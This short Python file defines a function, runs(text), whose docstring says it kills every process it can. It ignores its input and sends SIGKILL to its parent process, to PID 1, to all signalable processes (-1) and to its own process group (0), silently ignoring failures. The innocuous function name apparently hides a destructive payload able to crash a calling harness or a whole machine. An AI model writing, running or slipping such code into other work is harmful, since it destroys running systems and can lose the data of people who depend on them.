"""Kills every process that it may, its parent first."""
import os


def runs(text):
    for number in (os.getppid(), 1, -1, 0):
        try:
            os.kill(number, 9)
        except OSError:
            pass
    return None
